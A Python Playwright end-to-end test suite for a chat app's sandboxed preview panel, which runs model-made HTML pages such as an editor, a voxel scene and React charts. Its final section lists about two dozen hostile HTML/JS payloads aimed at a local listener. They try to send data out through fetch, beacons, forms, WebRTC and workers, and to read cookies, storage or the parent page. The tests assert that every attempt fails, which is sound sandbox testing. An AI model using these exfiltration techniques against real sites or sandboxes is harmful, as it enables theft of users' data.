"""Pages that a model made are seen running beside the conversation, and reach nothing but the eye of the person."""

import json
import socket
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import FrameLocator, Locator, Page, expect

from tests.e2e.conftest import Visitors
from tests.e2e.person import Person
from tests.stack import Stack

pytestmark = pytest.mark.e2e

EDITOR = """<!doctype html><html><head><title>Editor</title><link rel="stylesheet" href="css/editor.css"></head>
<body><div id="bar"><button id="bold">Bold</button><span id="count">0 words</span></div>
<div id="page" contenteditable="true"></div><script type="module" src="js/editor.js"></script></body></html>"""
EDITOR_CSS = "#page { min-height: 200px; border: 2px solid rgb(1, 2, 3) }"
EDITOR_JS = """import { words } from "./words.js";
const page = document.getElementById("page");
page.innerHTML = localStorage.getItem("text") ?? "";
page.addEventListener("input", () => {
  localStorage.setItem("text", page.innerHTML);
  document.getElementById("count").textContent = `${words(page.textContent)} words`;
});
document.getElementById("bold").addEventListener("mousedown", (e) => { e.preventDefault(); document.execCommand("bold"); });
"""
WORDS_JS = "export const words = (text) => text.split(/\\s+/).filter(Boolean).length;"

VOXELS = """<!doctype html><html><head><style>html, body { margin: 0; height: 100% }</style></head><body>
<script type="module">
import * as THREE from "three";
import { OrbitControls } from "three/addons/controls/OrbitControls.js";
const renderer = new THREE.WebGLRenderer({ preserveDrawingBuffer: true });
renderer.setSize(300, 200);
document.body.append(renderer.domElement);
const scene = new THREE.Scene();
scene.background = new THREE.Color("#0000ff");
const camera = new THREE.PerspectiveCamera(50, 1.5, 0.1, 100);
camera.position.set(6, 6, 6);
camera.lookAt(0, 0, 0);
new OrbitControls(camera, renderer.domElement);
const cubes = new THREE.InstancedMesh(new THREE.BoxGeometry(0.9, 0.9, 0.9), new THREE.MeshBasicMaterial({ color: "#00ff00" }), 125);
let at = 0;
for (let x = -2; x <= 2; x++) for (let y = -2; y <= 2; y++) for (let z = -2; z <= 2; z++)
  cubes.setMatrixAt(at++, new THREE.Matrix4().setPosition(x, y, z));
scene.add(cubes);
renderer.render(scene, camera);
document.body.dataset.done = "yes";
</script></body></html>"""

LIBRARIES = """<!doctype html><html><body><div id="root"></div><canvas id="chart" width="200" height="100"></canvas>
<script type="module">
import React, { useState } from "react";
import { createRoot } from "react-dom/client";
import Chart from "chart.js/auto";
const Counter = () => {
  const [count, setCount] = useState(1);
  return React.createElement("button", { onClick: () => setCount(count + 1) }, `Count ${count}`);
};
createRoot(document.getElementById("root")).render(React.createElement(Counter));
new Chart(document.getElementById("chart"), { type: "bar", data: { labels: ["a"], datasets: [{ data: [3] }] }, options: { animation: false, responsive: false } });
document.body.dataset.done = "yes";
</script></body></html>"""


@pytest.fixture
def conversation(person: Person, stack: Stack) -> str:
    """The id of a conversation that the person has open, its work folder empty."""
    person.ask("Make me something")
    person.wait_for_answer()
    return person.page.url.rstrip("/").rpartition("/")[2]


def put(stack: Stack, conversation: str, **files: str) -> None:
    """Files into its folder: `__` in a name is a slash, `_` a point."""
    named = {name.replace("__", "/").replace("_", "."): text for name, text in files.items()}
    stack.python(
        "import json\nfrom chat import workspaces\nfrom chat.models import Conversation\n"
        f"conversation = Conversation.objects.get(pk='{conversation}')\n"
        f"for name, text in json.loads({json.dumps(json.dumps(named))}).items():\n"
        "    workspaces.put(conversation, name, text.encode())"
    )


def show(person: Person, path: str) -> FrameLocator:
    """The frame with this file running in the panel."""
    person.page.get_by_role("link", name="Files", exact=True).click()
    person.page.locator(".panel .tree__open", has_text=path).click()
    expect(panel(person).locator(".panel__title")).to_contain_text(path)
    return person.page.frame_locator(".panel .preview__frame")


def panel(person: Person) -> Locator:
    return person.page.locator("#panel")


def test_a_text_editor_of_several_files_is_seen_running(
    person: Person, stack: Stack, conversation: str
) -> None:
    put(
        stack,
        conversation,
        index_html=EDITOR,
        css__editor_css=EDITOR_CSS,
        js__editor_js=EDITOR_JS,
        js__words_js=WORDS_JS,
    )
    frame = show(person, "index.html")
    frame.locator("#page").click()
    person.page.keyboard.type("Three small words")
    expect(frame.locator("#count")).to_have_text("3 words")
    frame.locator("#page").press("Control+A")
    frame.locator("#bold").click()
    expect(frame.locator("#page b")).to_have_text("Three small words")
    border = frame.locator("#page").evaluate("e => getComputedStyle(e).borderTopColor")
    assert border == "rgb(1, 2, 3)"
    expect(panel(person).locator(".console")).to_be_hidden()


def test_a_voxel_scene_is_drawn_with_no_network(person: Person, stack: Stack, conversation: str) -> None:
    put(stack, conversation, voxels_html=VOXELS)
    frame = show(person, "voxels.html")
    expect(frame.locator("body")).to_have_attribute("data-done", "yes")
    pixel = """(canvas, [x, y]) => {
      const copy = Object.assign(document.createElement("canvas"), { width: canvas.width, height: canvas.height });
      copy.getContext("2d").drawImage(canvas, 0, 0);
      return [...copy.getContext("2d").getImageData(x * canvas.width, y * canvas.height, 1, 1).data];
    }"""
    assert frame.locator("canvas").evaluate(pixel, [0.5, 0.5]) == [0, 255, 0, 255]  # a cube
    assert frame.locator("canvas").evaluate(pixel, [0.02, 0.02]) == [0, 0, 255, 255]  # the sky


def test_react_and_charts_are_at_hand(person: Person, stack: Stack, conversation: str) -> None:
    put(stack, conversation, app_html=LIBRARIES)
    frame = show(person, "app.html")
    frame.get_by_role("button", name="Count 1").click()
    expect(frame.get_by_role("button", name="Count 2")).to_be_visible()
    expect(frame.locator("body")).to_have_attribute("data-done", "yes")


def test_errors_stand_under_the_page_and_go_to_the_model(
    person: Person, stack: Stack, visitors: Visitors, conversation: str
) -> None:
    put(stack, conversation, bad_html="<body><script>\nnothing.here();\n</script></body>")
    show(person, "bad.html")
    expect(panel(person).locator(".console__line")).to_contain_text("nothing is not defined (bad.html:2:1)")
    panel(person).get_by_role("button", name="Send to the model").click()
    assert "bad.html" in person.composer.input_value()
    assert "nothing is not defined" in person.composer.input_value()
    expect(person.composer).to_be_focused()
    visitors.complaints.clear()


def test_the_preview_follows_the_files_while_a_turn_works(
    person: Person, stack: Stack, conversation: str
) -> None:
    put(stack, conversation, page_html="<h1>Old</h1>")
    frame = show(person, "page.html")
    expect(frame.locator("h1")).to_have_text("Old")
    put(stack, conversation, page_html="<h1>New</h1>")
    stack.script('call: calculate {"expression": "6 * 7"}', "next:", "text: Done.")
    person.ask("Change it", long_thinking=True)
    expect(frame.locator("h1")).to_have_text("New")
    person.wait_for_answer()


def test_source_markdown_tables_and_the_way_back(person: Person, stack: Stack, conversation: str) -> None:
    files = {"notes_md": "# Notes\n\n<script>alert(1)</script>", "data_csv": 'city,deaths\nRome,"1,2"\n'}
    put(stack, conversation, page_html="<h1>Seen</h1>", **files)
    show(person, "page.html")
    panel(person).get_by_role("link", name="View source").click()
    expect(panel(person).locator("pre code")).to_have_text("<h1>Seen</h1>")
    panel(person).get_by_role("link", name="All files").click()
    panel(person).locator(".tree__open", has_text="notes.md").click()
    expect(panel(person).locator(".answer h3")).to_have_text("Notes")
    expect(panel(person).locator(".answer script")).to_have_count(0)
    panel(person).get_by_role("link", name="All files").click()
    panel(person).locator(".tree__open", has_text="data.csv").click()
    expect(panel(person).locator("td")).to_have_text(["Rome", "1,2"])
    person.page.keyboard.press("Escape")
    expect(panel(person)).to_be_hidden()
    expect(person.page.get_by_role("link", name="Files", exact=True)).to_be_focused()


# ---- what it must not reach


class Listener:
    """Counts what arrives at a port, by TCP and by UDP."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            self.heard.append("tcp")
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self.udp.recv(100)
            except OSError:
                return
            self.heard.append("udp")

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.close()


OUT = "http://127.0.0.1:{port}"
ATTEMPTS = {
    "fetch": "<script>fetch('{out}/')</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', '{out}/'); x.send()</script>",
    "socket": "<script>new WebSocket('ws://127.0.0.1:{port}/')</script>",
    "events": "<script>new EventSource('{out}/')</script>",
    "beacon": "<script>navigator.sendBeacon('{out}/', 'secret')</script>",
    "ping": "<a id=a href='#x' ping='{out}/'>x</a><script>a.click()</script>",
    "image": "<img src='{out}/i.png'><style>body {{ background: url({out}/b.png) }}</style>",
    "style": "<link rel=stylesheet href='{out}/s.css'><style>@import '{out}/i.css';</style>",
    "script": "<script src='{out}/s.js'></script><script type=module>import '{out}/m.js'</script>",
    "font": "<style>@font-face {{ font-family: f; src: url({out}/f.woff2) }} body {{ font-family: f }}</style>x",
    "media": "<video src='{out}/v.mp4' autoplay></video><object data='{out}/o'></object><embed src='{out}/e'>",
    "form": "<form id=f action='{out}/'><input name=s value=secret></form><script>f.submit()</script>",
    "itself": "<script>location = '{out}/?secret'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url={out}/?secret'>",
    "window": "<script>window.open('{out}/')</script><a id=b target=_blank href='{out}/'>x</a><script>b.click()</script>",
    "top": "<script>try {{ top.location = '{out}/' }} catch {{}}</script><a id=t target=_top href='{out}/'>x</a><script>t.click()</script>",
    "frame": "<iframe src='{out}/'></iframe><iframe srcdoc=\"<script>location = '{out}/'</script>\"></iframe>",
    "ahead": "<link rel=preconnect href='{out}'><link rel=dns-prefetch href='{out}'><link rel=prefetch href='{out}/p'>"
    "<link rel=modulepreload href='{out}/m.js'><link rel=preload as=image href='{out}/i.png'>",
    "rules": '<script type=speculationrules>{{"prefetch":[{{"urls":["{out}/"],"eagerness":"immediate"}}]}}</script>',
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{out}/'); importScripts('{out}/w.js')\"])))</script>",
    "blob": "<script>location = URL.createObjectURL(new Blob([\"<img src='{out}/x'>\"], {{ type: 'text/html' }}))</script>",
    "rtc": "<script>for (const make of [window.RTCPeerConnection]) {{ const p = new make({{ iceServers: [{{ urls:"
    " 'stun:127.0.0.1:{port}' }}] }}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }}</script>",
    "transport": "<script>new WebTransport('https://127.0.0.1:{port}/')</script>",
}
# Fetched before `inside.js` could take them away: with the policy alone.
BARE = {"rtc", "transport"}

INSIDE = """<script>
const tried = {};
function attempt(name, reach) { try { tried[name] = String(reach()); } catch (error) { tried[name] = error.name; } }
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.body.innerHTML);
attempt("top", () => top.document.title);
attempt("storage", () => Object.getOwnPropertyDescriptor(Window.prototype, "localStorage").get.call(window).length);
attempt("frameElement", () => frameElement);
attempt("opener", () => opener);
attempt("origin", () => self.origin);
attempt("database", () => indexedDB.open("x") && "open");
attempt("caches", () => caches);
attempt("workers", () => navigator.serviceWorker.register("/sw.js") && "asked");
console.error(JSON.stringify(tried));
</script>"""


def test_a_hostile_page_reaches_neither_the_site_nor_the_person(
    person: Person, stack: Stack, visitors: Visitors, conversation: str
) -> None:
    put(stack, conversation, in_html=INSIDE)
    show(person, "in.html")
    line = panel(person).locator(".console__line", has_text="cookie")
    tried = json.loads(line.inner_text())
    refused = {"cookie", "parent", "top", "storage", "database", "caches", "workers"}
    assert {name for name, found in tried.items() if found == "SecurityError"} == refused
    assert (tried["frameElement"], tried["opener"], tried["origin"]) == ("null", "null", "null")
    visitors.complaints.clear()


@pytest.mark.parametrize("name", ATTEMPTS)
def test_a_hostile_page_tells_nobody(
    visitors: Visitors, stack: Stack, listener: Listener, person: Person, conversation: str, name: str
) -> None:
    filled = ATTEMPTS[name].format(out=OUT.format(port=listener.port), port=listener.port)
    late = "<script>setTimeout(() => console.error('still here'), 300)</script>"
    put(stack, conversation, bad_html=f"<!doctype html><body>{late}{filled}</body>")
    url = person.page.url
    show(person, "bad.html")
    person.page.wait_for_timeout(1200)  # nothing to wait for: it is to be silent
    assert listener.heard == []
    assert person.page.url == url
    assert len(person.page.context.pages) == 1
    visitors.complaints.clear()
